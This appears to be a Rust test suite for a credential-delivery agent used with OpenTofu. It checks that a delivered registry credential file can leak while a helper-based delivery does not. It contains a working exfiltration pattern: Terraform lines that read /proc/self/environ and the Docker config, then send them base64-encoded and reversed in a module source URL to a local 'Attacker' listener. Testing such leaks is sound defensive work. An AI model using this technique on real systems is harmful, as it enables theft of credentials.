//! The delivery `file`: only where somebody asks for it and the integration permits it; and what it gives away (A1).

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use super::recorder::Recorder;
use super::shelf::{REPOSITORY, Shelf};
use super::with_modules;
use super::world::{Setup, World};

fn with_agent(delivery: &str) -> Option<World> {
    World::with(Setup { agent: &["--delivery", delivery], ..Setup::default() })
}

#[test]
fn a_file_that_no_integration_permits_is_withheld_and_the_hint_names_the_command() {
    let Some(world) = with_agent("file") else { return };
    let Some(shelf) = Shelf::start(&world.canaries[0].password) else { return };
    shelf.store(&world);
    let directory = world.configuration(&shelf.main());
    let said = world.apply(&directory, 1);
    assert!(said.contains("does not permit the delivery `file`"), "{said}");
    assert!(said.contains("nigari registry update demo --permit-file"), "{said}");
    assert!(!shelf.log().contains("auth.user.name="), "{}", shelf.log());
    assert_eq!(world.audited("release").last().unwrap()["particulars"]["released"], serde_json::json!([]));
    world.ends(&["registry", "update", "demo", "--permit-file"], 0);
    world.apply(&directory, 0);
    let receipt = &world.run(&world.newest())["receipts"][0];
    assert_eq!(receipt["delivery"], "file", "{receipt:#}");
    assert!(receipt["meaning"].as_str().unwrap().contains("could have read it"), "{receipt:#}");
}

#[test]
fn a_workspace_asks_for_a_file_and_an_agent_that_wants_better_wins() {
    let Some(mut world) = World::start() else { return };
    let Some(shelf) = Shelf::start(&world.canaries[0].password) else { return };
    shelf.add(&world, "demo", &["--export", "--permit-file"]).succeeded().unwrap();
    world.ends(&["workspace", "create", "demo", "--delivery", "file"], 0);
    let directory = world.configuration(&shelf.main());
    let delivered = |world: &World| {
        world.apply(&directory, 0);
        world.run(&world.newest())["receipts"][0]["delivery"].clone()
    };
    assert_eq!(delivered(&world), "file");
    world.ends(&["workspace", "update", "demo", "--delivery", "auto"], 0);
    assert_eq!(delivered(&world), "helper");
    world.stack.agent().unwrap().stop().unwrap();
    world.stack.start_agent(&["--delivery", "helper"]).unwrap();
    world.ends(&["workspace", "update", "demo", "--delivery", "file"], 0);
    assert_eq!(delivered(&world), "helper");
}

/// Whoever listens there keeps what comes.
struct Attacker {
    port: u16,
    heard: Arc<Mutex<String>>,
}

impl Attacker {
    fn listen() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(Mutex::new(String::new()));
        let kept = Arc::clone(&heard);
        thread::spawn(move || {
            for mut victim in listener.incoming().flatten() {
                victim.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
                let mut bytes = vec![0; 64 * 1024];
                let count = victim.read(&mut bytes).unwrap_or(0);
                kept.lock().unwrap().push_str(&String::from_utf8_lossy(&bytes[..count]));
                let _ = victim.write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> String {
        self.heard.lock().unwrap().clone()
    }
}

/// Attack A1: lines that read whatever the delivery has written, and send it away turned around. `cli` is how they come
/// by tofu's CLI configuration.
fn theft(attacker: &Attacker, shelf: &Shelf, cli: &str) -> String {
    let port = attacker.port;
    format!(
        "{}{cli}locals {{\n  docker = file(regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\", local.cli)[0])\n}}\n\
         module \"theft\" {{\n  source = \"http://127.0.0.1:{port}/x?all=${{strrev(base64encode(local.docker))}}\"\n}}\n",
        with_modules(&[("greeting", shelf.source(REPOSITORY))])
    )
}

/// As any author can: the step's environment names the file.
const BY_ENVIRONMENT: &str = "locals {\n  environ = file(\"/proc/self/environ\")\n  cli = \
                              file(regex(\"TF_CLI_CONFIG_FILE=([^\\\\x00]+)\", local.environ)[0])\n}\n";

/// A tofu that tells the configuration where the file is.
const TELLS: &str =
    "if [ $1 = get ]; then printf 'locals {\\n  cli = file(\"%s\")\\n}\\n' \"$TF_CLI_CONFIG_FILE\" > told.tf; fi";

/// What the attacker has of the Docker file.
fn stolen(attacker: &Attacker) -> String {
    use base64::Engine as _;
    let heard = attacker.heard();
    let value = heard.split("all=").nth(1).unwrap_or_default();
    let value = value.split(['&', ' ']).next().unwrap_or_default().replace("%3D", "=").replace("%2B", "+");
    let turned: String = value.replace("%2F", "/").chars().rev().collect();
    let bytes = base64::engine::general_purpose::STANDARD.decode(turned).unwrap_or_default();
    String::from_utf8(bytes).unwrap()
}

#[test]
fn an_expression_finds_no_way_to_a_file_that_was_delivered() {
    let Some(world) = with_agent("file") else { return };
    let Some(shelf) = Shelf::start(&world.canaries[0].password) else { return };
    shelf.add(&world, "demo", &["--export", "--permit-file"]).succeeded().unwrap();
    let attacker = Attacker::listen();
    let said = world.apply(&world.configuration(&theft(&attacker, &shelf, BY_ENVIRONMENT)), 1);
    // The greeting came, so the credential was there; what names it is out of sight.
    assert!(said.contains("/proc/self/environ") && shelf.log().contains("auth.user.name="), "{said}");
    assert_eq!(attacker.heard(), "", "{said}");
}

#[test]
fn who_knows_the_path_steals_a_file_and_nothing_of_the_helper() {
    let Some(recorder) = Recorder::with(TELLS) else { return };
    let tofu = recorder.program();
    let Some(mut world) = World::with(Setup { tofu: Some(&tofu), ..Setup::default() }) else { return };
    let Some(shelf) = Shelf::start(&world.canaries[0].password) else { return };
    shelf.add(&world, "demo", &["--export", "--permit-file"]).succeeded().unwrap();
    // With the helper the attack runs to its end, and what it gets is worth nothing.
    let attacker = Attacker::listen();
    let said = world.apply(&world.configuration(&theft(&attacker, &shelf, "")), 1);
    let found = stolen(&attacker);
    assert!(found.contains("credHelpers") && found.contains(&shelf.host()), "{found}\n{}\n{said}", attacker.heard());
    let mut search = support::search::Search::new(&world.canaries);
    search.bytes("what the attacker has", attacker.heard().as_bytes());
    search.bytes("what the attacker makes of it", found.as_bytes());
    search.verdict().unwrap();
    // The control: with the file the same lines are given the password.
    world.stack.agent().unwrap().stop().unwrap();
    world.stack.start_agent(&["--delivery", "file"]).unwrap();
    let attacker = Attacker::listen();
    let said = world.apply(&world.configuration(&theft(&attacker, &shelf, "")), 1);
    let found = stolen(&attacker);
    assert!(found.contains("\"auth\":"), "{found}\n{}\n{said}", attacker.heard());
}
